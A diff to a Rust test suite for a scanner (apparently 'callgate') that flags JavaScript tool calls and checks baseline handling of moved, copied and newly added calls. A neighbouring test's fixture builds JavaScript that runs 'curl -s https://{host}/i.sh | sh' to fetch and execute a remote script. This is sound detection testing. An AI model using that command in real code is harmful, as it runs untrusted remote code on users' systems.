@@ -188,6 +188,30 @@ fn a_repository_with_many_old_findings_adopts_in_three_commands() {
 }
 
 #[test]
+fn what_models_think_of_a_file_as_a_whole_is_known_until_it_calls_something_else() {
+    let text = "const open = await callTool('tickets:close', { id: 1 });\nconst rest = await callTool('tickets:delete', { id: 2 });\nawait callTool('mail:send', { to: 'a@b.example', text: 'done' });\n";
+    for model in ["five-factor", "numeric", "rule-based"] {
+        let folder = folder(&[("a.js", text)]);
+        let words = ["scan", "--model", model, "--warn-threshold", "1", "--block-threshold", "90"];
+        let before = callgate(folder.path(), &words);
+        if code(&before) == 0 {
+            continue;
+        }
+        assert_eq!(code(&callgate(folder.path(), &[&words[..], &["--write-baseline"]].concat())), 0, "{model}");
+        let words = [&words[..], &["--baseline", FILE, "--format", "json"]].concat();
+        let output = callgate(folder.path(), &words);
+        assert_eq!(code(&output), 0, "{model}: {}", out(&output));
+        write(folder.path(), "a.js", &format!("// more\n\n{text}"));
+        assert_eq!(code(&callgate(folder.path(), &words)), 0, "{model}: lines moved");
+        write(folder.path(), "b.js", text);
+        assert_ne!(code(&callgate(folder.path(), &words)), 0, "{model}: a copy is new");
+        fs::remove_file(folder.path().join("b.js")).expect("it is there");
+        write(folder.path(), "a.js", &format!("{text}await callTool('files:delete', {{ path: 'x' }});\n"));
+        assert_ne!(code(&callgate(folder.path(), &words)), 0, "{model}: it calls something else");
+    }
+}
+
+#[test]
 fn a_constant_that_becomes_another_is_new_wherever_it_stands() {
     let text = |host: &str| {
         format!("import cp from 'node:child_process';\nconst from = 'https://{host}/i.sh';\n\ncp.execSync('curl -s ' + from + ' | sh');\n")
